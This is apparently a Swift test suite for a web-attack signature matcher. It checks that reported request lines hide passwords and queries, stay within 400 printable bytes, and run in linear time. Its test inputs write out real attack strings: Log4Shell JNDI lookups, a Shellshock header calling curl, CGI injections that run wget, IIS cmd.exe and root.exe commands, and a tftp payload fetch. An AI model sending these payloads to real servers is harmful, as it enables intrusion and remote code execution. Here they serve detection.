import ProgramTesting
import SeededRandom
import Testing
@testable import Signatures

@Suite("A request in a mail")
struct ShownRequestTests {
  private func line(_ request: String, agent: String? = nil, referer: String? = nil) -> String? {
    SignatureTable().match(
      Request(
        line: request.utf8, agent: agent.map { Array($0.utf8) }, referer: referer.map { Array($0.utf8) }))?
      .line
  }

  @Test(
    "has nothing in it that is not the attack's",
    arguments: [
      ("GET /.env HTTP/1.1", "GET /.env HTTP/1.1"),
      ("GET /.env?token=geheim HTTP/1.1", "GET /.env?[...] HTTP/1.1"),
      ("GET http://u:geheim@inner.example/.env HTTP/1.1", "GET /.env HTTP/1.1"),
      ("/.env", "- /.env"),
      ("GET /.env", "GET /.env"),
      ("GET /cgi-bin/;x=geheim HTTP/1.1", "GET /cgi-bin/;x=[...] HTTP/1.1"),
      ("GET /cgi-bin/;wget http://u:geheim@h/x HTTP/1.1", "GET /cgi-bin/;wget%20http://[...]/x HTTP/1.1"),
      (
        "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Age/heim%40h%2fx HTTP/1.1",
        "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Age/heim%40h%2fx HTTP/1.1"
      ),
      (
        "GET /cgi-bin/;wget%20http%3A%2f%2Fu%3Ageheim%40h%2fx HTTP/1.1",
        "GET /cgi-bin/;wget%20http%3A%2f%2F[...]%2fx HTTP/1.1"
      ),
      (
        "GET /cgi-bin/;wget%2520http%253A%252f%252Fgeheim%2540h HTTP/1.1",
        "GET /cgi-bin/;wget%2520http%253A%252f%252F[...] HTTP/1.1"
      ),
      ("GET /cgi-bin/;u:ge=h;e&im@h/ HTTP/1.1", "GET /cgi-bin/;u:ge=[...];e&im@h/ HTTP/1.1"),
      (
        "GET /c/winnt/system32/cmd.exe?/c+dir&password=geheim&x=1 HTTP/1.0",
        "GET /c/winnt/system32/cmd.exe?/c+dir[...] HTTP/1.0"
      ),
      (
        "GET /c/winnt/system32/cmd.exe?/c+dir+http://u:ge?heim@h/ HTTP/1.0",
        "GET /c/winnt/system32/cmd.exe?/c+dir[...] HTTP/1.0"
      ),
      ("GET /cgi-bin/;a:geheim@inner.example:80/x HTTP/1.1", "GET /cgi-bin/;[...]/x HTTP/1.1"),
      ("GET /scripts/root.exe?/c+dir+c:\\ HTTP/1.0", "GET /scripts/root.exe?/c+dir+c:\\ HTTP/1.0"),
      ("GET /scripts/root.exe?/c+dir+c:\\geheim HTTP/1.0", "GET /scripts/root.exe?/c+dir+c:\\[...] HTTP/1.0"),
      ("GET /scripts/root.exe?name=geheim HTTP/1.0", "GET /scripts/root.exe?[...] HTTP/1.0"),
      ("GET /scripts/Admin.dll?/c%20geheim HTTP/1.0", "GET /scripts/Admin.dll?/c[...] HTTP/1.0"),
      ("GET /scripts/root.exe?/c+echo+geheim HTTP/1.0", "GET /scripts/root.exe?/c+echo[...] HTTP/1.0"),
      (
        "GET /scripts/root.exe?/c+tftp%20-i+192.0.2.7%20GET+Admin.dll+geheim HTTP/1.0",
        "GET /scripts/root.exe?/c+tftp%20-i+192.0.2.7%20GET+Admin.dll[...] HTTP/1.0"
      ),
      (
        "GET /scripts/root.exe?/c+tftp+-i+geheim HTTP/1.0",
        "GET /scripts/root.exe?/c+tftp[...] HTTP/1.0"
      ),
      (
        "GET /default.ida?NNNNNNNNNNNN%u9090%u00=a&x=geheim HTTP/1.0",
        "GET /default.ida?NNNNNNNNNNNN%u9090%u00=a[...] HTTP/1.0"
      ),
      ("GET /default.ida?XXXXXXXXXXXX%ugeheim HTTP/1.0", "GET /default.ida?XXXXXXXXXXXX[...] HTTP/1.0"),
    ])
  func shown(request: String, expected: String) { #expect(line(request) == expected) }

  @Test(
    "is a header field where the attack is in one",
    arguments: [
      ("${jndi:ldap://geheim.example/a}", "User-Agent: ${jndi:ldap:[...]}"),
      ("Mozilla ${${lower:J}nDi:${lower:RMI}://geheim.example/a}", "User-Agent: ${jndi:rmi:[...]}"),
      ("() { :;}; curl http://geheim.example", "User-Agent: ()%20{[...]"),
    ])
  func header(agent: String, expected: String) {
    #expect(line("GET / HTTP/1.1", agent: agent) == expected)
    let referer = expected.replacing("User-Agent", with: "Referer")
    #expect(line("GET / HTTP/1.1", referer: agent) == referer)
  }

  @Test("never has a password of a URL, however it is escaped")
  func userinfo() {
    var random = SeededGenerator(seed: 11)
    func escaped(_ text: String) -> String {
      text.utf8.map { byte in
        let digits = String(byte, radix: 16)
        switch Int.random(in: 0..<4, using: &random) {
        case 0: return "%\(digits)"
        case 1: return "%25\(digits.uppercased())"
        case 2: return "%252525\(digits)"
        default: return String(UnicodeScalar(byte))
        }
      }.joined()
    }
    for start in ["/cgi-bin/;", "/c/winnt/system32/cmd.exe?/c+dir+", "/.env?"] {
      for _ in 0..<200 {
        let target = "\(start)x\(escaped("//"))user\(escaped(":"))geheim\(escaped("@"))h.example/"
        let shown = line("GET \(target) HTTP/1.1")
        #expect(shown?.contains("geheim") == false, "\(target)")
      }
    }
  }

  @Test("has nothing of a query of the page that a Referer names")
  func referer() throws {
    let text = "[x]\ntitle = T\nexplanation = E.\nsource = S\nreferer = *evil*\nevidence = header\n"
    let table = SignatureTable(own: try OwnSignatures.read(Array(text.utf8)))
    let referer = Array("https://u:geheim@evil.example/a?geheim".utf8)
    let shown = table.match(Request(line: "GET / HTTP/1.1".utf8, referer: referer))?.line
    #expect(shown == "Referer: https://[...]/a?[...]")
  }

  @Test("has the expression, but not what is looked up, where it is in the target")
  func expression() {
    #expect(line("GET /a?x=%24%7Bjndi%3Aldap://geheim/a} HTTP/1.1") == "GET [...]${jndi:ldap:[...]} HTTP/1.1")
  }

  @Test("is at most 400 bytes of printable ASCII, whatever was sent")
  func hostile() {
    var random = SeededGenerator(seed: 7)
    let starts = [
      "/.env?", "/c/winnt/system32/cmd.exe?/c+dir", "/cgi-bin/;", "/?${jndi:", "/default.ida?NNNNNNNNNNNN",
      "http://x@y/cgi-bin/;",
    ]
    let pieces = [
      "%", "%2", "%25", "@", "//", ":", "=", ";", "&", "\0", "\r\nTo: x", "ä", "${", "}", "a", "%40",
      "http://",
    ]
    var found = 0
    for round in 0..<1200 {
      var target = Array(starts[round % starts.count].utf8)
      for _ in 0..<Int.random(in: 0...150, using: &random) {
        target += Array((pieces.randomElement(using: &random) ?? "").utf8)
        if Bool.random(using: &random) { target.append(UInt8.random(in: 0...255, using: &random)) }
      }
      let method = (0..<Int.random(in: 0...80, using: &random)).map { _ in
        UInt8.random(in: 0...255, using: &random)
      }
      guard let match = SignatureTable().match(Request(method: method, target: target, version: method))
      else {
        continue
      }
      found += 1
      #expect(match.line.utf8.count <= 400)
      #expect(match.line.utf8.allSatisfy { (0x20...0x7E).contains($0) })
    }
    // How many there are depends on how the standard library makes numbers of a generator.
    #expect(found > 400)
  }

  @Test("takes a time that is linear in what was sent")
  func time() {
    let targets = [
      String(repeating: "${", count: 32_000),
      String(repeating: "${lower:", count: 8000) + String(repeating: "}", count: 8000),
      "/" + String(repeating: "%25", count: 21_000), "/cgi-bin/;" + String(repeating: "//a:", count: 16_000),
      "/" + String(repeating: "a", count: 65_000), "/?" + String(repeating: "*think", count: 10_000),
      "/" + String(repeating: "a/../", count: 13_000), "/" + String(repeating: "a/./", count: 16_000),
      "/cgi-bin/;" + String(repeating: "=;a", count: 20_000), "/" + String(repeating: "/${", count: 20_000),
    ]
    for target in targets {
      let request = Request(method: "GET".utf8, target: target.utf8, agent: Array(target.utf8))
      // What is not linear does not come to an end here.
      let line = SignatureTable().match(request)?.line
      #expect((line?.utf8.count ?? 0) <= 400)
    }
  }
}
